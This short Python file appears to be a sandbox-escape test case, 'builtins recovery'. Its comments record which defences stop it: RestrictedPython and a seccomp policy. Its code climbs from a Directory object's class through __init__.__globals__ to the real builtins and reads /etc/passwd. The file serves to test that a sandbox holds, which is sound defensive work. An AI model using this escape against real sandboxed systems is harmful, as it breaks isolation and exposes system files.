# attack: builtins recovery
# stops: restrictedpython: "__class__" is an invalid attribute name
# os: process/seccomp: Operation not permitted
# baseline: -restrictedpython => escaped
# the API class's module __builtins__ (the real builtins, not the script's)
found = Directory("/").__class__.__init__.__globals__["__builtins__"]
print("ESCAPED", len(found["open"]("/etc/passwd").read()))
